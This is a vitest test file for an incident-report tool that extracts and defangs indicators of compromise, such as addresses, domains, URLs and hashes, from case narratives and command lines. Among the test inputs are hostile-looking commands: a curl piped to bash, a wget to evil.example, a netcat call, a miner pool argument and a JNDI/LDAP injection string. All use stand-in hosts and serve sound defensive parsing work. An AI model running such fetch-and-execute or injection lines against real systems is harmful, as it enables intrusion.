import { describe, expect, it } from 'vitest';
import type { Case, Step } from '../../../src/extension/core/model/case.ts';
import type { Cites, Claim } from '../../../src/extension/core/model/evidence.ts';
import { code, hash, id, indicator, type Phrase, phrase, text } from '../../../src/extension/core/model/phrase.ts';
import { indicatorsOf } from '../../../src/extension/core/report/indicators.ts';
import { indicatorsIn } from '../../../src/extension/core/report/indicatorsIn.ts';
import { renderIndicators } from '../../../src/extension/core/report/indicatorTable.ts';
import { renderResource } from '../../../src/extension/core/report/sections.ts';
import { bareGroupCase } from '../../fixtures/cases/bareGroup.ts';
import { storefrontCase } from '../../fixtures/cases/storefront.ts';

const sha256 = 'ab'.repeat(32);
const at = Date.UTC(2026, 5, 10, 9);

const says = (words: Phrase, ...ids: string[]): Claim => ({ phrase: words, cites: ids as unknown as Cites });

function step(action: Phrase, cites: readonly string[], minutes = 0): Step {
  return {
    ...{ id: `S${minutes + 1}`, at: at + minutes * 60_000, action, boundary: 'B1', role: 'step', times: 1, eventIds: [] },
    cites: cites as unknown as Cites,
  };
}

/** A case that names nothing but what the test gives it. */
function caseOf(parts: Partial<Case> & { readonly steps?: readonly Step[] }): Case {
  const { steps = [], ...rest } = parts;
  const chain = { boundaries: [], steps, links: [], unlinked: [] };
  return { ...bareGroupCase, summary: [], triggerFacts: [], indicators: { status: 'done', value: [] }, chain, ...rest };
}

const values = (of: Case) => indicatorsOf(of).map(({ value }) => value);
const inCommand = (line: string) => indicatorsIn(code(line)).map(({ kind, value }) => `${kind} ${value}`);

describe('indicators of a case', () => {
  it('[X-14] are each named once, with all that the case says of it', () => {
    const of = caseOf({
      steps: [
        step(phrase`${code('curl')} connected to ${indicator('203.0.113.77')} port ${code('80')}`, ['E4'], 2),
        step(phrase`${code('curl http://203.0.113.77/i.sh')} ran`, ['E3'], 0),
      ],
      indicators: { status: 'done', value: [says(phrase`The feed names ${indicator('203.0.113.77')}: “${text('Miners')}”.`, 'E4', 'E9')] },
      triggerFacts: [says(phrase`It also names the remote address ${indicator('203.0.113.77')}.`, 'E10')],
      summary: [says(phrase`It went to ${indicator('203.0.113.77')}.`, 'E1', 'E2', 'E3', 'E4')],
    });
    const found = indicatorsOf(of).find(({ kind }) => kind === 'ipv4');
    expect(found).toEqual({
      kind: 'ipv4',
      value: '203.0.113.77',
      range: 'documentation',
      roles: ['destination of a connection', 'in a command line'],
      firstSeen: at,
      lastSeen: at + 120_000,
      steps: ['S3', 'S1'],
      // Not E1 and E2: the summary cites them for something else.
      cites: ['E3', 'E4', 'E9', 'E10'],
      known: of.indicators.status === 'done' ? of.indicators.value : [],
    });
    expect(indicatorsOf(of).map(({ kind }) => kind)).toEqual(['ipv4', 'url']);
  });

  it('[X-14] take what a retelling names where nothing else does', () => {
    const of = caseOf({ summary: [says(phrase`used from ${indicator('2001:DB8::7')}`, 'E2')] });
    expect(indicatorsOf(of)).toMatchObject([{ kind: 'ipv6', value: '2001:db8::7', range: 'documentation', cites: ['E2'], steps: [] }]);
    expect(indicatorsOf(of)[0]).not.toHaveProperty('firstSeen');
  });

  it.each([
    ['connected to', phrase`${code('nc')} connected to ${indicator('8.8.8.8')}`, 'destination of a connection'],
    ['connecting to', phrase`${code('nc')} ran, ${['connecting to']} ${indicator('8.8.8.8')}`, 'destination of a connection'],
    ['a taken connection', phrase`${code('sshd')} ${['took']} a connection from ${indicator('8.8.8.8')}`, 'source of a connection'],
    ['a cloud call', phrase`${code('eve')} called ${code('CreateUser')}${phrase` from ${indicator('8.8.8.8')}`}`, 'source of calls'],
    ['a sign-in', phrase`${code('eve')} ${['signed in']}${phrase` from ${indicator('8.8.8.8')}`}`, 'source of calls'],
    ['a hash', phrase`Its file has SHA-256 ${hash(sha256)}`, 'file that ran'],
  ])('[X-14] say their role as the case says it: %s', (_name, action, role) => {
    expect(indicatorsOf(caseOf({ steps: [step(action, ['E1'])] })).flatMap(({ roles }) => roles)).toEqual([role]);
  });

  it('[X-14] are sorted by when they were first seen, then kind and value, whatever the order of the sentences', () => {
    const steps = [
      step(phrase`${code('a')} connected to ${indicator('9.9.9.2')}`, ['E2'], 5),
      step(phrase`${code('a')} connected to ${indicator('9.9.9.9')}`, ['E1'], 1),
      step(phrase`${code('a')} connected to ${indicator('9.9.9.1')}`, ['E3'], 5),
    ];
    const told = [says(phrase`${hash(sha256)} and ${indicator('zz.evil.example')} and ${indicator('aa.evil.example')}`, 'E4')];
    const expected = ['9.9.9.9', '9.9.9.1', '9.9.9.2', 'aa.evil.example', 'zz.evil.example', sha256];
    expect(values(caseOf({ steps, summary: told }))).toEqual(expected);
    expect(values(caseOf({ steps: steps.toReversed(), summary: told }))).toEqual(expected);
  });

  it('[X-14] have no CVE, image digest, cloud service, own machine or name of a program among them', () => {
    const of = caseOf({
      steps: [
        step(phrase`${code('java org.apache.catalina.startup.Bootstrap /usr/lib/os.path i.sh 127.0.0.1')} ran`, ['E1']),
        step(phrase`${code('x')} called ${code('ec2.RunInstances')} from ${indicator('ec2.amazonaws.com')}`, ['E1']),
      ],
      summary: [
        says(phrase`${id('CVE-2022-22965')}, image ${code('docker.io/acme/storefront:2.14.1')}, digest ${hash('ab'.repeat(32))}`, 'E1'),
        says(phrase`The caller's program calls itself ${code('bot (+http://bot.example/why)')}`, 'E1'),
        says(phrase`${hash(`sha256:${sha256}`)} from ${indicator('AWS Internal')}`, 'E1'),
      ],
      triggerFacts: [says(phrase`The caller's program calls itself ${code('bot (+http://bot.example/why)')}`, 'E1')],
    });
    expect(values(of)).toEqual([]);
  });
});

describe('indicators in a command line', () => {
  it.each([
    ['curl -s http://198.51.100.23/i.sh | bash', ['url http://198.51.100.23/i.sh', 'ipv4 198.51.100.23', 'ipv4 198.51.100.23']],
    ['wget "https://evil.example:8443/a?b=c";ls', ['url https://evil.example:8443/a?b=c', 'domain evil.example']],
    ['kdevtmpfsi -o pool.example:3333', ['domain pool.example']],
    ['nc -6 2001:db8::1 443', ['ipv6 2001:db8::1']],
    ['curl http://[2001:db8::1]/x', ['ipv6 2001:db8::1']],
    ['curl $' + '{jndi:ldap://evil.example/a}', ['url ldap://evil.example/a', 'domain evil.example']],
    ['nmap 10.20.0.0/16', []],
    ['app --version 1.2.3 at 09:12:31 with A::B and a::b', []],
    ['docker run registry.example:5000/shop/cart:1.2', []],
  ])('[X-14] %s', (line, expected) => {
    expect(inCommand(line)).toEqual(expected);
  });

  it('[K-11] leave a URL with a secret out and keep its host', () => {
    expect(inCommand('curl http://root:hunter2@evil.example/x')).toEqual(['domain evil.example']);
    expect(inCommand('curl https://evil.example/x?token=abcdef')).toEqual(['domain evil.example']);
  });

  it.each([
    ['10.1.2.3', 'private'],
    ['169.254.169.254', 'private'],
    ['::ffff:10.1.2.3', 'private'],
    ['fd00:ec2::254', 'private'],
    ['8.8.8.8', 'public'],
    ['2606:4700::1111', 'public'],
    ['203.0.113.9', 'documentation'],
    ['ip-10-0-0-1.eu-west-1.compute.internal', 'private'],
    ['evil.example', 'documentation'],
    ['evil.com', 'public'],
  ])('[X-14] %s is %s', (value, range) => {
    expect(indicatorsIn(indicator(value))).toMatchObject([{ value, range }]);
  });

  it('take 100 kB of anything in no time', () => {
    const began = performance.now();
    for (const one of ['a.', '1.', ':', 'http://', 'a:1', '[', 'a@', '-']) {
      for (const datum of [indicator, code, hash]) indicatorsIn(datum(one.repeat(50_000)));
    }
    expect(performance.now() - began).toBeLessThan(2_000);
  });
});

describe('an indicator of a sentence', () => {
  it.each([
    [indicator('[2001:db8::1]:443'), 'ipv6 2001:db8::1'],
    [indicator('fe80::1%eth0'), 'ipv6 fe80::1'],
    [indicator('198.51.100.7:443'), 'ipv4 198.51.100.7'],
    [indicator('C2.Evil.Example:8080'), 'domain c2.evil.example'],
    [indicator('mallory@evil.example'), 'email mallory@evil.example'],
    [hash('A'.repeat(40)), `sha1 ${'a'.repeat(40)}`],
    [hash('b'.repeat(32)), `md5 ${'b'.repeat(32)}`],
    [hash('b'.repeat(31)), undefined],
    [indicator('somebody'), undefined],
    [text('evil.example'), undefined],
  ])('[X-14] %o', (datum, expected) => {
    expect(indicatorsIn(datum).map(({ kind, value }) => `${kind} ${value}`)).toEqual(expected === undefined ? [] : [expected]);
  });
});

describe('table of indicators', () => {
  it('[X-14] is defanged, cites, and loses no sentence of what is known elsewhere', () => {
    const known = [
      says(phrase`The feed names ${indicator('203.0.113.77')}: “${text('Miners | and more')}”.`, 'E4', 'E9'),
      says(phrase`The feed names ${id('CVE-2022-22965')}.`, 'E8'),
    ];
    const steps = [step(phrase`${code('a')} connected to ${indicator('203.0.113.77')}`, ['E2'])];
    const markdown = renderIndicators(caseOf({ steps, indicators: { status: 'done', value: known } }));
    expect(markdown).toContain(
      '| address reserved for examples | `203[.]0[.]113[.]77` | 2026-06-10 09:00:00Z | destination of a connection | The feed names `203[.]0[.]113[.]77`: “Miners \\| and more” | [E2][E4][E9] |',
    );
    expect(markdown).toContain('- The feed names `CVE-2022-22965` [E8].');
    expect(markdown).not.toContain('203.0.113.77');
  });

  it('[X-14] [I-28] shows 25, counts the rest and still tells what is known of it', () => {
    const steps = Array.from({ length: 30 }, (_one, n) => step(phrase`${code('a')} connected to ${indicator(`9.9.9.${n}`)}`, ['E2'], n));
    const known = [says(phrase`${indicator('9.9.9.29')} is registered in ${text('Berlin')}`, 'E7')];
    const markdown = renderIndicators(caseOf({ steps, indicators: { status: 'done', value: known } }));
    expect(markdown.match(/^\| address /gm)).toHaveLength(25);
    expect(markdown).toContain('5 more are in the CSV.');
    expect(markdown).toContain('- `9[.]9[.]9[.]29` is registered in Berlin [E7].');
  });

  it('[K-02] says in one sentence that there is nothing, and why a direction was not looked in', () => {
    expect(renderResource(caseOf({}))).toContain('No signal: the case names no address, domain, URL or file.');
    expect(renderResource(storefrontCase)).toContain('Known elsewhere: Skipped: this version does not look up indicators.');
  });
});
